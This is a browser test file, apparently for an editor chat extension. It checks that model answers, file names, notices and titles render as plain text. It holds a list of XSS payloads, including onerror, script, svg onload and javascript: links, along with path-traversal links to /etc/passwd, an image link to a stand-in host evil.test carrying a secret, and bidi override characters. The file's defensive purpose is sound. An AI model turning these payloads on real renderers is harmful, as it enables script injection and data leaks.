import { expect, test } from 'vitest';
import { answerOf, FakeSidecar, readyRoot } from '../unit/extension/chat/fake-sidecar.js';
import { describeInBrowser } from './browser.js';
import { openPage } from './page-under-test.js';

/** What a model may write, having read it somewhere. */
const hostile = [
  '<img src=x onerror="window.hacked = 1">',
  '<script>window.hacked = 1</script>',
  '<svg onload="window.hacked = 1"><style>*{display:none}</style></svg>',
  '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
  '[a](javascript:window.hacked=1) [b](JaVaScRiPt:window.hacked=1) [c](data:text/html,<script>1</script>)',
  '[d](command:workbench.action.terminal.new) [e](vscode://file/etc/passwd) [f](file:///etc/passwd)',
  '[g](//evil.test/x) [h](../../etc/passwd#L1) [i](src/store/../../../etc/passwd#L12)',
  '![image](https://evil.test/pixel.png?secret) ![j](javascript:window.hacked=1)',
  '<https://evil.test/auto> <javascript:window.hacked=1>',
  '[ref]: javascript:window.hacked=1\n\n[ref]',
  '`</code><img src=x onerror=window.hacked=1>`',
  '```html onload=1 "><img src=x onerror=window.hacked=1>\n</code></pre><script>window.hacked = 1</script>\n```',
  '```js\n`${"</span><img src=x onerror=window.hacked=1>"}`\n```',
  '| <b>a</b> | style |\n|:-:|---|\n| <img src=x onerror=window.hacked=1> | b |',
  '&lt;img src=x onerror=window.hacked=1&gt; &#60;script&#62;',
].join('\n\n');

const markup =
  'img, script:not([nonce]), iframe, svg, style, object, embed, form:not(.composer), [style], [onerror], [onload]';

describeInBrowser('what a model or a repository says', (browser) => {
  test('is text: no markup, no request, nothing that runs', async () => {
    const under = await openPage(browser(), {});
    const { page } = under;
    void under.chat.ask(`<img src=x onerror="window.hacked = 1"> and \`<b>code</b>\``, 'memory');
    const question = await under.sidecar.question(1);
    for (const piece of hostile.match(/[^]{1,9}/g) ?? []) question.send({ kind: 'text', text: piece });
    await under.settled();
    question.answer(answerOf(hostile, { notices: ['<img src=x onerror="window.hacked = 1">'] }));
    await page.locator('.coverage').waitFor();
    expect(await page.locator('.panel').locator(markup).count()).toBe(0);
    expect(await page.locator('a[href]').count()).toBe(1);
    expect(await page.locator('a').getAttribute('href')).toBe('https://evil.test/auto');
    expect(await page.locator('.place-link').count()).toBe(0);
    expect(await page.evaluate('window.hacked')).toBeUndefined();
    expect(await page.locator('.question-text').innerText()).toContain('<img src=x onerror="window.hacked = 1">');
    expect(await page.locator('.answer-text').innerText()).toContain('<script>window.hacked = 1</script>');
    expect(under.requested).toEqual([]);
    expect(under.complaints).toEqual([]);
  });

  test('is shown as it is called, in paths, names, notices and titles', async () => {
    const name = '<img src=x onerror="window.hacked = 1">';
    const sidecar = new FakeSidecar(readyRoot({ name, notices: [name] }));
    sidecar.handlers['locret/coverage'] = () => ({
      read: [{ path: `src/${name}.ts`, tokens: 1 }],
      skipped: [{ path: `${name}/`, reason: 'binary', detail: name }],
      changed: [],
    });
    const under = await openPage(browser(), { sidecar, roots: [{ uri: 'file:///code/orchard', name }] });
    const { page } = under;
    const citation = { path: `src/${name}.ts`, line: 1, endLine: 1, name, from: 'recall' } as const;
    void under.chat.ask(name, 'memory');
    (await under.sidecar.question(1)).answer(
      answerOf(`In \`src/${name}.ts:1\`.`, {
        citations: [citation],
        recalled: [{ ...citation, reason: 'name', tokens: 1, cut: 0 }],
      }),
    );
    await page.locator('.coverage').waitFor();
    expect(await page.locator('.place-link').innerText()).toBe(`src/${name}.ts:1`);
    for (const part of [/^read/, /skipped$/, /^recall/]) {
      await page.getByRole('button', { name: part }).click();
      await page.locator('.details').getByText(name).first().waitFor();
    }
    under.post({ type: 'showConversations' });
    await page.locator('.conversation-title').getByText(name).waitFor();
    expect(await page.locator('.panel').locator(markup).count()).toBe(0);
    expect(await page.evaluate('window.hacked')).toBeUndefined();
    expect(under.complaints).toEqual([]);
  });

  test('cannot turn the direction of what is around it', async () => {
    const under = await openPage(browser(), {});
    const path = 'src/a\u202Etxt.exe';
    void under.chat.ask('a \u202E question', 'memory');
    (await under.sidecar.question(1)).answer(
      answerOf('An \u2066answer\u202E.\n\n```ts\nif (a /*\u202E } \u2066if (b)*/) {}\n```', {
        citations: [{ path, line: 1, endLine: 1, name: 'x\u202Ey', from: 'recall' }],
        notices: ['A \u202Enotice.'],
      }),
    );
    await under.page.locator('.coverage').waitFor();
    const shown = await under.page.locator('.panel').textContent();
    expect(shown).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
    await under.page.locator('.citation').click();
    await expect.poll(() => under.log.opened[0]?.path).toBe(path);
  });
});
